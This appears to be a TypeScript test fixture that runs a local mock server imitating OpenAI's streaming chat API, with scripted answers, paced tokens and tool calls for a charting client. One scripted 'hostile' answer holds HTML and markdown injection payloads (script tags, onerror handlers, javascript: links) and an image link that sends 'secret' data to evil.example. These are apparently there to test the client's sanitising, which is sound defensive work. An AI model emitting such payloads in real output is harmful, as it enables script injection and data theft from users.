import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { PAYLOADS } from './payloads';
import { pieces, textOf } from './tokens';

/** What the scripted model says to questions that contain a word. */
const SCRIPTS: readonly { when: RegExp; says: string }[] = [
  {
    when: /hostile/,
    says: [
      '# Results',
      '<img src="https://evil.example/a.png" onerror="window.hacked = 1">',
      '<script>window.hacked = 1</script>',
      '![chart](https://evil.example/rows.png?data=secret)',
      '[click](javascript:window.hacked=1) [data](data:text/html,<script>1</script>) [docs](https://example.com/docs)',
      '<iframe src="https://evil.example"></iframe> <style>body{display:none}</style>',
      'The end of it.',
    ].join('\n\n'),
  },
  {
    when: /long/,
    says: Array.from({ length: 90 }, (_, index) => `Line ${index + 1} of a long answer.`).join(
      '\n\n',
    ),
  },
  { when: /every payload/, says: PAYLOADS.join('\n\n') },
  { when: /table/, says: 'Here:\n\n| city | people |\n| --- | --: |\n| Rome | 3 |\n' },
  { when: /code/, says: 'Like this:\n\n```sql\nSELECT 1;\n```\n\nThat is **all**.' },
];

/** The key that it takes where it is asked to check one. */
export const RIGHT_KEY = 'sk-right-0123456789';

/** A model that speaks OpenAI's protocol and says what the tests want, as slowly as they want. */
export interface ScriptedProvider {
  url: string;
  stop(): Promise<void>;
}

/**
 * Starts it. A question that contains `gate-KEY` is answered by twelve words, each of which waits
 * until it is let go by `POST /release/KEY?words=N`; one that contains `N tokens` by so many, at the
 * pace that `at N a second` gives.
 */
export async function startProvider(): Promise<ScriptedProvider> {
  const gates = new Map<string, Gate>();
  const gate = (key: string): Gate => {
    const known = gates.get(key) ?? new Gate();
    gates.set(key, known);
    return known;
  };
  const handle = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const url = new URL(request.url ?? '/', 'http://localhost');
    const released = /^\/release\/(\w+)$/.exec(url.pathname)?.[1];
    if (released) {
      gate(released).release(Number(url.searchParams.get('words') ?? Infinity));
      response.end();
      return;
    }
    if (url.pathname === '/v1/models') {
      const isRight = request.headers.authorization === `Bearer ${RIGHT_KEY}`;
      response.writeHead(isRight ? 200 : 401, { 'Content-Type': 'application/json' });
      response.end('{}');
      return;
    }
    const { messages } = JSON.parse(await body(request)) as { messages: ModelMessage[] };
    const question = lastQuestion(messages);
    const key = /gate-(\w+)/.exec(question)?.[1];
    response.writeHead(200, { 'Content-Type': 'text/event-stream' });
    const call = nextCall(question, messages);
    if (call) {
      send(response, {
        choices: [{ index: 0, delta: { tool_calls: [call] }, finish_reason: 'tool_calls' }],
      });
      response.end('data: [DONE]\n\n');
      return;
    }
    const [, tokens, pace] = /(\d+) tokens(?: at (\d+) a second)?/.exec(question) ?? [];
    const text = key
      ? gatedWords(key)
      : tokens
        ? textOf(Number(tokens))
        : (SCRIPTS.find(({ when }) => when.test(question))?.says ?? 'Yes.');
    const start = performance.now();
    let count = 0;
    for (const piece of pieces(text)) {
      count += 1;
      if (key) await gate(key).passed(count);
      const early = pace ? start + (count * 1_000) / Number(pace) - performance.now() : 0;
      if (early >= 1) await pause(early);
      if (response.destroyed) return;
      send(response, { choices: [{ index: 0, delta: { content: piece } }] });
    }
    send(response, {
      choices: [{ index: 0, delta: {}, finish_reason: 'stop' }],
      usage: { prompt_tokens: 120, completion_tokens: count, total_tokens: 120 + count },
    });
    response.end('data: [DONE]\n\n');
  };
  const server = createServer((request, response) => {
    handle(request, response).catch(() => response.destroy());
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    stop: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

/** The words of a gated answer. */
export function gatedWords(key: string): string {
  return Array.from({ length: 12 }, (_, index) => `${key}${index + 1}`).join(' ');
}

class Gate {
  #open = 0;
  #waiting: { place: number; pass: () => void }[] = [];

  passed(place: number): Promise<void> {
    return place <= this.#open
      ? Promise.resolve()
      : new Promise((pass) => this.#waiting.push({ place, pass }));
  }

  release(words: number): void {
    this.#open += words;
    const through = this.#waiting.filter(({ place }) => place <= this.#open);
    this.#waiting = this.#waiting.filter(({ place }) => place > this.#open);
    for (const { pass } of through) pass();
  }
}

async function body(request: IncomingMessage): Promise<string> {
  let text = '';
  for await (const chunk of request.setEncoding('utf8')) text += chunk as string;
  return text;
}

interface ModelMessage {
  role: string;
  content: unknown;
}

type Call = [name: string, given: object];

/** The calls that are made one after the other for questions that contain a word, from the results of those before. */
const CALLS: readonly { when: RegExp; calls: readonly ((results: readonly string[]) => Call)[] }[] = [
  {
    when: /draw a chart/,
    calls: [
      () => ['run_query', { sql: 'SELECT status, count(*)::int AS orders FROM orders GROUP BY status' }],
      ([rows = '']) => {
        const [, resultId] = /"result_id":\s*"([0-9a-f-]{36})"/.exec(rows) ?? [];
        const title = 'Orders by status';
        return ['create_chart', { result_id: resultId, mark: 'pie', x: 'status', y: ['orders'], title }];
      },
    ],
  },
  {
    when: /be mistaken/,
    calls: [
      () => ['run_query', { sql: 'SELECT total_amount / 0 FROM orders' }],
      () => ['run_query', { sql: 'SELECT count(*) AS orders FROM orders' }],
    ],
  },
];

function nextCall(question: string, messages: readonly ModelMessage[]): object | null {
  const since = messages.slice(messages.findLastIndex(({ role }) => role === 'user') + 1);
  const results = since.filter(({ role }) => role === 'tool').map(({ content }) => String(content));
  const calls = CALLS.find(({ when }) => when.test(question))?.calls ?? [];
  const [name, given] = calls[results.length]?.(results) ?? [];
  if (!name) return null;
  const id = `call_${results.length}`;
  return { index: 0, id, type: 'function', function: { name, arguments: JSON.stringify(given) } };
}

function lastQuestion(messages: readonly ModelMessage[]): string {
  const last = messages.findLast(({ role }) => role === 'user')?.content;
  return typeof last === 'string' ? last : JSON.stringify(last);
}

function send(response: ServerResponse, chunk: object): void {
  const common = {
    id: 'chatcmpl-1',
    object: 'chat.completion.chunk',
    created: 1,
    model: 'script-1',
  };
  response.write(`data: ${JSON.stringify({ ...common, ...chunk })}\n\n`);
}
